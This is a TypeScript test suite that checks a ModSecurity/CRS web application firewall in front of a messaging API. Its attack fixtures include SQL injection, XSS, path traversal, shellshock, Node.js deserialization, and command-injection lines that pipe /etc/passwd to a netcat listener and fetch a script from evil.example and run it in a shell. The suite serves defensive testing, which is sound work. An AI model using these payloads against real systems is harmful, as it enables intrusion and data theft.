import { createHmac } from "node:crypto";
import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { APP_SECRET, bearer, benignCorpus } from "./fixtures/benign-corpus.js";
import {
  type EdgeRequest,
  type EdgeResponse,
  OPEN_LIMITS,
  startTestEdge,
  type TestEdge,
} from "./fixtures/edge.js";

// ModSecurity + CRS as the edge renders them (blocking, default paranoia level): attacks in every part of a
// request are refused and logged with their rule; realistic traffic passes; secrets never reach a log.

let edge: TestEdge;

beforeAll(async () => {
  edge = await startTestEdge({ rateLimit: OPEN_LIMITS });
});
afterAll(async () => {
  await edge?.close();
});

interface AuditEntry {
  transaction: { unique_id: string; messages: { details: { ruleId: string } }[] };
}

/** nginx writes the audit and access logs in its log phase, after the answer went out: wait for the line. */
async function auditEntry(requestId: string): Promise<AuditEntry | undefined> {
  for (let attempt = 0; attempt < 50; attempt++) {
    // Only whole lines: nginx may be writing the last one right now.
    const lines = (await edge.auditLog()).split("\n").slice(0, -1).filter(Boolean);
    const entry = lines
      .map((l) => JSON.parse(l) as AuditEntry)
      .find((e) => e.transaction.unique_id === requestId);
    if (entry) return entry;
    await sleep(40);
  }
  return undefined;
}

async function accessEntry(requestId: string): Promise<Record<string, unknown> | undefined> {
  for (let attempt = 0; attempt < 50; attempt++) {
    const entry = (await edge.accessLog()).find((l) => l.request_id === requestId);
    if (entry) return entry;
    await sleep(40);
  }
  return undefined;
}

const post = (path: string, body: unknown, headers: Record<string, string> = {}): EdgeRequest => ({
  method: "POST",
  path,
  headers: { "content-type": "application/json", authorization: bearer(1), ...headers },
  body: JSON.stringify(body),
});

const attacks: { name: string; family: string; request: EdgeRequest }[] = [
  {
    name: "SQL injection in the query string",
    family: "942",
    request: { path: "/v1/messages/abc?status=1%27%20OR%20%271%27%3D%271" },
  },
  {
    name: "SQL injection in a JSON value",
    family: "942",
    request: post("/v1/messages", { to: "+15551234567", text: "x' UNION SELECT password FROM users--" }),
  },
  {
    name: "SQL injection in the Referer header",
    family: "942",
    request: { path: "/v1/replies", headers: { referer: "https://example.com/?id=1' or '1'='1' --" } },
  },
  {
    name: "XSS in a JSON value",
    family: "941",
    request: post("/v1/replies", {
      match: { type: "exact", value: "hi" },
      reply: { text: "<script>alert(document.cookie)</script>" },
    }),
  },
  {
    // The XSS rules do not read json.to (the gateway accepts only an E.164 number there); the others still do.
    name: "SQL injection in json.to, the field the XSS rules leave to the gateway's schema",
    family: "942",
    request: post("/v1/messages", {
      type: "text",
      to: "1' UNION SELECT password FROM users--",
      text: { body: "hi" },
    }),
  },
  {
    // 920450 is skipped when no restricted header is present (rules 10140/10141): with one, it runs.
    name: "a restricted header (Proxy: httpoxy)",
    family: "920450",
    request: { path: "/v1/messages/x", headers: { proxy: "http://evil.example:3128" } },
  },
  {
    name: "XSS in the query string",
    family: "941",
    request: { path: "/v1/replies?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E" },
  },
  {
    name: "path traversal in a JSON value",
    family: "930",
    request: post("/v1/webhooks", { url: "file:///../../../../etc/passwd", events: ["message.received"] }),
  },
  {
    name: "path traversal in the path",
    family: "930",
    request: { path: "/v1/messages/..%5c..%5c..%5cwindows%5cwin.ini" },
  },
  {
    name: "command injection in a JSON value",
    family: "932",
    request: post("/v1/messages", { to: "+15551234567", text: "hello; cat /etc/passwd | nc 10.0.0.1 4444" }),
  },
  {
    name: "command injection in the query string",
    family: "932",
    request: { path: "/v1/messages/x?host=127.0.0.1%3Bwget%20http%3A%2F%2Fevil.example%2Fx.sh%20-O-%7Csh" },
  },
  {
    name: "shellshock in a header",
    family: "932",
    request: {
      path: "/v1/messages/x",
      headers: { "x-client-info": "() { :; }; /bin/bash -c 'cat /etc/passwd'" },
    },
  },
  {
    name: "Node.js injection in a JSON value",
    family: "934",
    request: post("/v1/messages", {
      to: "+15551234567",
      text: '_$$ND_FUNC$$_function (){require("child_process").exec("id")}()',
    }),
  },
  {
    name: "scanner user agent (sqlmap)",
    family: "913",
    request: {
      path: "/v1/messages/x",
      headers: { "user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" },
    },
  },
  {
    name: "scanner user agent (Nikto)",
    family: "913",
    request: {
      path: "/healthz",
      headers: { "user-agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)" },
    },
  },
];

describe("attacks are refused with 403 and the rule in the logs", () => {
  for (const attack of attacks) {
    it(attack.name, async () => {
      const before = edge.upstream.received.length;
      const res = await edge.send(attack.request);
      expect(res.status).toBe(403);
      expect(edge.upstream.received.length).toBe(before);
      const requestId = String(res.headers["x-request-id"]);
      const entry = await auditEntry(requestId);
      const ruleIds = entry?.transaction.messages.map((m) => m.details.ruleId) ?? [];
      expect(
        ruleIds.some((id) => id.startsWith(attack.family)),
        `rules ${ruleIds.join(",")}`,
      ).toBe(true);
      const errorLog = await edge.errorLog();
      const line = errorLog.split("\n").find((l) => l.includes(`[unique_id "${requestId}"]`));
      expect(line).toMatch(/Access denied with code 403.*\[id "949110"\]/);
      const access = await accessEntry(requestId);
      expect(access).toMatchObject({ edge: "waf", status: 403, upstream_status: "" });
    });
  }
});

describe("realistic traffic passes", () => {
  it("a corpus of at least 200 benign API requests: 0 false positives", { timeout: 120_000 }, async () => {
    const corpus = benignCorpus();
    expect(corpus.length).toBeGreaterThanOrEqual(200);
    const refused: { name: string; res: EdgeResponse }[] = [];
    for (const { name, request } of corpus) {
      const res = await edge.send(request);
      if (res.status !== 200) refused.push({ name, res });
    }
    const detail: string[] = [];
    for (const { name, res } of refused) {
      const entry = await auditEntry(String(res.headers["x-request-id"]));
      detail.push(
        `${name}: ${res.status} ${entry?.transaction.messages.map((m) => m.details.ruleId).join(",")}`,
      );
    }
    console.log(`benign corpus: ${corpus.length} requests, ${refused.length} false positives`);
    expect(detail).toEqual([]);
  });
});

describe("Meta's webhook", () => {
  const scary =
    "Hi! My name is Robert'); DROP TABLE students;-- and I typed <script>alert('xss')</script> lol";
  const webhook = (signed: boolean) => {
    const body = JSON.stringify({
      object: "whatsapp_business_account",
      entry: [
        {
          id: "1",
          changes: [
            {
              field: "messages",
              value: {
                messages: [{ from: "15551234567", id: "wamid.X1", type: "text", text: { body: scary } }],
              },
            },
          ],
        },
      ],
    });
    const headers: Record<string, string> = { "content-type": "application/json" };
    if (signed)
      headers["x-hub-signature-256"] =
        `sha256=${createHmac("sha256", APP_SECRET).update(body).digest("hex")}`;
    return { body, request: { method: "POST", path: "/webhooks/whatsapp", headers, body } };
  };

  it("a signed delivery reaches the gateway whatever the user typed", async () => {
    const { body, request } = webhook(true);
    const res = await edge.send(request);
    expect(res.status).toBe(200);
    expect(edge.upstream.received.at(-1)?.body.toString()).toBe(body);
  });

  it("the same body without a signature is inspected, and refused", async () => {
    const res = await edge.send(webhook(false).request);
    expect(res.status).toBe(403);
  });

  it("a signed delivery with a query string is inspected in full", async () => {
    const { request } = webhook(true);
    const res = await edge.send({ ...request, path: "/webhooks/whatsapp?x=1" });
    expect(res.status).toBe(403);
  });

  it("a signed delivery still gets CRS's phase-1 checks, and is blocked on them", async () => {
    const { request } = webhook(true);
    // A charset outside the policy is a critical finding of phase 1 (920480).
    const res = await edge.send({
      ...request,
      headers: { ...request.headers, "content-type": "application/json; charset=utf-7" },
    });
    expect(res.status).toBe(403);
    const ruleIds = (await auditEntry(String(res.headers["x-request-id"])))?.transaction.messages.map(
      (m) => m.details.ruleId,
    );
    expect(ruleIds).toEqual(expect.arrayContaining(["920480", "10130"]));
  });
});

describe("logs never hold credentials", () => {
  it("the bearer token and the OTP code stay out of the audit and error logs", async () => {
    const token = bearer(4242);
    const code = "739164";
    const res = await edge.send(
      post("/v1/otp/verify", { to: "+15551234567' OR '1'='1", code }, { authorization: token }),
    );
    expect(res.status).toBe(403);
    const logs = (await edge.auditLog()) + (await edge.errorLog()) + JSON.stringify(await edge.accessLog());
    const signature = token.split(".").at(-1) ?? "";
    expect(signature.length).toBeGreaterThan(20);
    expect(logs).not.toContain(signature);
    expect(logs).not.toContain(code);
  });

  it("an attack inside the Authorization header is not read by the WAF (the gateway verifies the token)", async () => {
    const res = await edge.send({
      path: "/v1/messages/x",
      headers: { authorization: "Bearer ' OR 1=1 --<script>" },
    });
    expect(res.status).toBe(200);
    const logs = (await edge.auditLog()) + (await edge.errorLog());
    expect(logs).not.toContain("OR 1=1 --<script>");
  });

  // The rules that read every header (930110 path traversal, 932170 shellshock, ...) would refuse these values
  // in any other header; ModSecurity 3.0.9 matches an excluded header name case-sensitively, so both spellings
  // clients use are excluded (HTTP/2 and Node send lower case).
  for (const name of ["authorization", "Authorization"]) {
    it(`a header-wide rule does not read "${name}" either`, async () => {
      const value = "Bearer ../../../../etc/passwd () { :; }; /bin/cat";
      const res = await edge.send({ path: "/v1/messages/x", headers: { [name]: value } });
      expect(res.status).toBe(200);
      // No rule matched it: no error-log line and no audit entry for this request.
      const requestId = String(res.headers["x-request-id"]);
      const logs = (await edge.auditLog()) + (await edge.errorLog());
      expect(requestId.length).toBeGreaterThan(10);
      expect(logs).not.toContain(requestId);
      // The same value in another header is refused: the rules do run.
      const control = await edge.send({ path: "/v1/messages/x", headers: { "x-client-info": value } });
      expect(control.status).toBe(403);
    });
  }
});
